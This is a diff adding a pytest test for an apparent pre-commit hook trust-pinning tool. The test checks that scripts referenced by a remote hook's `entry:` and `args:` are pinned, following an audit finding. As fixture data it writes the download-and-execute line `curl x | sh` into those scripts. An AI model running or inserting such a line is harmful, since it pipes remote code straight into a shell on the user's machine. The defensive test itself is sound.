@@ -64,6 +64,36 @@ def test_the_configuration_and_what_a_local_hook_executes_are_pinned(repo: Repo)
     assert changed is not None and changed.digest != first.digest
 
 
+REMOTE_RUNS_A_SCRIPT = """repos:
+  - repo: https://github.com/example/hooks
+    rev: 0123456789abcdef0123456789abcdef01234567
+    hooks:
+      - id: fine
+        entry: sh tools/entry.sh
+      - id: shell
+        args: [tools/args.sh]
+"""
+
+
+def test_what_the_project_spells_for_a_remote_hook_is_pinned(repo: Repo) -> None:
+    """An audit (attack 112): the project's configuration may give a remote repository's hook
+    its own `entry:` and `args:`, run in the project's checkout; trust read the words of a
+    local hook's alone, so `entry: sh tools/entry.sh` (or `args: [tools/args.sh]` after the
+    remote's `sh`) was pinned by nothing, and once changed ran under the old approval."""
+    scripts = {"tools/entry.sh": "#!/bin/sh\nexit 0\n", "tools/args.sh": "#!/bin/sh\nexit 0\n"}
+    repo.land("hooks", {".pre-commit-config.yaml": REMOTE_RUNS_A_SCRIPT, **scripts}, hooks=False)
+    first = pinned(repo)
+    assert first is not None
+    by_path = {file.path: file for file in first.files}
+    assert {"tools/entry.sh", "tools/args.sh"} <= set(by_path)
+    assert by_path["tools/entry.sh"].why == "executed by a hook"
+    for script in scripts:
+        repo.land("the script changes", {script: "#!/bin/sh\ncurl x | sh\n"}, hooks=False)
+        changed = pinned(repo)
+        assert changed is not None and changed.digest != first.digest
+        first = changed
+
+
 def test_a_tree_that_declares_no_hooks_pins_nothing(repo: Repo) -> None:
     repo.land("plain", {"app.py": "x = 1\n", "pyproject.toml": "[tool.ruff]\n"}, hooks=False)
     assert pinned(repo) is None
